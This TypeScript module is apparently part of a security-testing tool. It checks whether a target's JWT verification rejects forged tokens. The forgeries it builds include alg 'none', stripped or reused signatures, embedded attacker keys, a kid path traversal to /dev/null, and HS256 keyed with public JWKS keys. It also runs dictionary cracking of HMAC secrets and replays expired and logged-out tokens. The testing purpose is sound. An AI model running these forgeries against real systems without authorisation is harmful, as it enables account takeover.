/**
 * JWT attacks, when the session artifact (bearer token or session cookie) is a JWS: the untouched token
 * as a control, then forgeries that a correct verifier rejects — alg "none" in four spellings, the
 * payload changed under the old signature, the signature stripped, HS256 keyed with the target's own
 * public keys (JWKS), an attacker key embedded in the header (jwk), a kid pointing at /dev/null — an
 * offline dictionary attack on HMAC keys, and an expired token (forged with a cracked key, or the
 * real one after it expires when that is soon enough).
 */
import { generateKeyPairSync, type JsonWebKey } from 'node:crypto';
import type { JwtArtifact, JwtExpiry, JwtForgery, JwtRevocation } from '../../src/model/artifacts.js';
import type { Probe, ProbeContext } from '../../src/probe.js';
import type { Credentials, HttpClient } from '../../src/drivers/http.js';
import type { TargetSession } from '../../src/target/session.js';
import { hmacMatches, isHmac, parseJws, publicKeyPem, signEs256, signHmac, summarizeClaims, unsigned, type Jws } from '../../src/token/jws.js';
import { WEAK_JWT_SECRETS } from '../../src/token/jwt-secrets.js';
import { RefreshClient } from '../../src/target/refresh.js';
import type { Clock } from '../../src/scheduler.js';

export const jwtProbe: Probe<'jwt'> = {
  id: 'jwt',
  title: 'JWT',
  sessions: 2,
  async run({ session, established, spec, progress, clock }): Promise<JwtArtifact> {
    // Whether there is a JWT at all shows in the session established before any probe: no extra login.
    // With target.refresh the token attacked is one a refresh minted, which only a login can show.
    if (!session.target.refresh?.accessToken && !findJwt(await session.sessionCredentials(session.baseline))) {
      return { notApplicable: `no session artifact is a JWT (${established.authKind === 'bearer' ? 'the bearer token' : 'the session cookies'} did not parse as a JWS)` };
    }
    const client = session.newClient('jwt');
    const minted = await loginForJwt(session, client, clock);
    try {
      return await attack(session, client, spec, progress, minted, clock);
    } finally {
      await session.release(client);
    }
  },
};

/**
 * Logs the device in; with target.refresh (and an access-token path), refreshes once and presents the
 * access token the refresh minted from then on, as a client does for most of a session's life. Whether it did.
 */
async function loginForJwt(session: TargetSession, client: HttpClient, clock: Clock): Promise<boolean> {
  const login = await session.login(client);
  const profile = session.target.refresh;
  if (!profile?.accessToken) return false;
  const refresher = new RefreshClient(session, profile, clock.now(), () => clock.now());
  const token = await refresher.fromLogin(client, login);
  const access = token && (await refresher.refresh(token, 'jwt: mint an access token')).access;
  if (!access?.authorization) return false;
  client.authorization = access.authorization;
  return true;
}

interface FoundJwt {
  carrier: string;
  token: string;
  /** The credentials with `token` in the JWT's place. */
  present: (token: string) => Credentials;
  jws: Jws;
}

/** The first session artifact (bearer token, then cookies) that parses as a JWS. */
function findJwt(creds: Credentials): FoundJwt | undefined {
  const scheme = creds.authorization?.match(/^\S+\s+/)?.[0] ?? '';
  const candidates: Array<Omit<FoundJwt, 'jws'>> = [
    ...(creds.authorization ? [{ carrier: 'bearer token', token: creds.authorization.slice(scheme.length), present: (t: string) => ({ ...creds, authorization: `${scheme}${t}` }) }] : []),
    ...creds.cookies.map((c) => ({
      carrier: c.name,
      token: safeDecode(c.value),
      present: (t: string) => ({ ...creds, cookies: creds.cookies.map((o) => (o === c ? { name: o.name, value: t } : o)) }),
    })),
  ];
  for (const c of candidates) {
    const jws = parseJws(c.token);
    if (jws) return { ...c, jws };
  }
  return undefined;
}

async function attack(session: TargetSession, client: HttpClient, spec: ProbeContext['spec'], progress: ProbeContext['progress'], minted: boolean, clock: Clock): Promise<JwtArtifact> {
  const found = findJwt(await session.sessionCredentials(client));
  if (!found) return { notApplicable: minted ? 'the access token a refresh minted is not a JWT' : session.target.refresh?.accessToken ? 'no session artifact is a JWT (no access token could be minted by a refresh either)' : 'the fresh login issued no JWT, although the first login did' };
  const { carrier, token, present, jws } = found;
  progress.step(`jwt: forging tokens against the ${carrier} (alg ${String(jws.header.alg)})`);

  const control = await session.replay(present(token), 'jwt: positive control, the token as issued');
  const forgeries: JwtForgery[] = [];
  const attempt = async (attack: string, judgedBy: JwtForgery['judgedBy'], forged: string) => {
    // A forgery the target accepts is a working credential: mask it like one.
    session.evidence.redactor.addToken(forged);
    forgeries.push({ attack, judgedBy, observation: await session.replay(present(forged), `jwt forgery: ${attack}`) });
  };
  const { header, payload } = jws;
  const tampered = { ...payload, sp_tampered: Date.now() };
  const [h, p] = jws.signingInput.split('.');
  await attempt('payload changed, signature kept', 'jwt.signature-verified', `${h}.${Buffer.from(JSON.stringify(tampered)).toString('base64url')}.${jws.signature}`);
  await attempt('signature stripped', 'jwt.signature-verified', `${h}.${p}.`);
  for (const alg of ['none', 'None', 'NONE', 'nOnE']) await attempt(`alg "${alg}", unsigned`, 'jwt.alg', unsigned({ ...header, alg }, tampered));
  const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = attacker.publicKey.export({ format: 'jwk' });
  await attempt('attacker key embedded in the header (jwk)', 'jwt.alg', signEs256({ ...header, alg: 'ES256', jwk }, tampered, attacker.privateKey));
  await attempt('kid pointing at /dev/null, HMAC with an empty key', 'jwt.alg', signHmac({ ...header, alg: 'HS256', kid: '../../../../../../../dev/null' }, tampered, ''));
  const confusion = await confusionForgeries(session, header, tampered, attempt);

  const secret = isHmac(String(header.alg)) ? WEAK_JWT_SECRETS.find((s) => hmacMatches(jws, s)) : undefined;
  const weakSecret = isHmac(String(header.alg))
    ? {
        tested: true,
        dictionarySize: WEAK_JWT_SECRETS.length,
        found: secret !== undefined,
        note: secret !== undefined ? `the HMAC key is a ${secret.length}-character entry of the built-in dictionary` : `none of the ${WEAK_JWT_SECRETS.length} dictionary keys reproduces the signature`,
      }
    : { tested: false, dictionarySize: WEAK_JWT_SECRETS.length, found: false, note: `alg ${String(header.alg)} is not an HMAC: there is no shared secret to guess` };

  // Before any wait for expiry: a revoked token must be told apart from an expired one.
  const revocation = await revoke(session, carrier, clock);
  const expired = await expiredToken(session, jws, token, present, secret, spec.jwt, progress.step);
  const { alg, typ, kid, ...rest } = header;
  return {
    carrier,
    ...(minted && { mintedByRefresh: true as const }),
    header: { alg: String(alg), ...(typeof typ === 'string' ? { typ } : {}), ...(typeof kid === 'string' ? { kid } : {}), otherKeys: Object.keys(rest) },
    claims: summarizeClaims(payload, session.account.username),
    control,
    forgeries,
    confusion,
    weakSecret,
    expired,
    revocation,
  };
}

/** A fresh login's JWT, logged out, then replayed from a fresh client while it is still unexpired. */
async function revoke(session: TargetSession, carrier: string, clock: Clock): Promise<JwtRevocation> {
  if (!session.target.logout) return { notConfigured: 'the target profile has no logout flow (target.logout)' };
  const client = session.newClient('jwt: revocation');
  await loginForJwt(session, client, clock);
  const saved = await session.sessionCredentials(client);
  const beforeLogout = await session.ask(client, 'jwt revocation: positive control before logout');
  const logout = await session.logout(client);
  const currentAfterLogout = await session.ask(client, 'jwt revocation: the same client after logout');
  const only: Credentials = carrier === 'bearer token' ? { cookies: [], authorization: saved.authorization } : { cookies: saved.cookies.filter((c) => c.name === carrier) };
  const replay = await session.replay(only, `jwt revocation: the ${carrier} replayed after logout`);
  return { beforeLogout, logoutStatus: logout.response.status, logoutExchanges: logout.exchanges, currentAfterLogout, replay };
}

function safeDecode(value: string): string {
  try {
    return decodeURIComponent(value);
  } catch {
    return value;
  }
}

/** HS256 keyed with each public key of the target's JWKS, as PEM (what a confused verifier would use). */
async function confusionForgeries(
  session: TargetSession,
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  attempt: (attack: string, judgedBy: JwtForgery['judgedBy'], forged: string) => Promise<void>,
): Promise<string | null> {
  if (!session.target.jwksUrl) return 'no JWKS URL configured (target.jwksUrl), so HS256-with-the-public-key was not tried';
  const res = await session.replayer.request({ url: session.target.jwksUrl, step: 'jwt: fetch the JWKS', credentials: { cookies: [] } });
  let keys: JsonWebKey[] = [];
  try {
    keys = (JSON.parse(res.body) as { keys?: JsonWebKey[] }).keys ?? [];
  } catch {
    return `the JWKS URL answered ${res.status} without a JSON key set`;
  }
  const pems = keys.map((k) => ({ kid: typeof k.kid === 'string' ? k.kid : undefined, pem: publicKeyPem(k) })).filter((k) => k.pem);
  if (pems.length === 0) return `the JWKS holds no usable public key (${keys.length} keys)`;
  for (const { kid, pem } of pems) {
    await attempt(`HS256 keyed with the public key${kid ? ` ${kid}` : ''} from the JWKS`, 'jwt.alg', signHmac({ ...header, alg: 'HS256' }, payload, pem!));
  }
  return null;
}

async function expiredToken(
  session: TargetSession,
  jws: Jws,
  token: string,
  present: (token: string) => Credentials,
  secret: string | undefined,
  jwt: { leewayMs: number; expiryWaitMs: number },
  step: (message: string) => void,
): Promise<JwtExpiry> {
  const now = Math.floor(Date.now() / 1000);
  const leeway = Math.ceil(jwt.leewayMs / 1000);
  if (secret !== undefined) {
    const claims = { ...jws.payload, iat: now - 2 * leeway - 7200, exp: now - leeway - 3600 };
    const forged = signHmac(jws.header, claims, secret, String(jws.header.alg));
    session.evidence.redactor.addToken(forged);
    return { method: 'a copy that expired an hour ago (plus leeway), signed with the cracked key', observation: await session.replay(present(forged), 'jwt: expired token (re-signed)') };
  }
  const exp = typeof jws.payload.exp === 'number' ? jws.payload.exp : null;
  if (exp === null) return { notObserved: 'the token has no exp claim' };
  const waitMs = (exp + leeway - now) * 1000 + 1000;
  if (waitMs > jwt.expiryWaitMs) {
    return { notObserved: `the token expires in ${Math.round((exp - now) / 60)} min; waiting for it (plus ${leeway}s leeway) exceeds spec.jwt.expiryWait` };
  }
  for (let left = waitMs; left > 0; left -= 5000) {
    step(`jwt: waiting for the token to expire (${Math.ceil(left / 1000)}s left)`);
    await new Promise((r) => setTimeout(r, Math.min(5000, left)));
  }
  return { method: `the issued token, replayed ${leeway}s after its exp`, observation: await session.replay(present(token), 'jwt: the token after exp + leeway') };
}
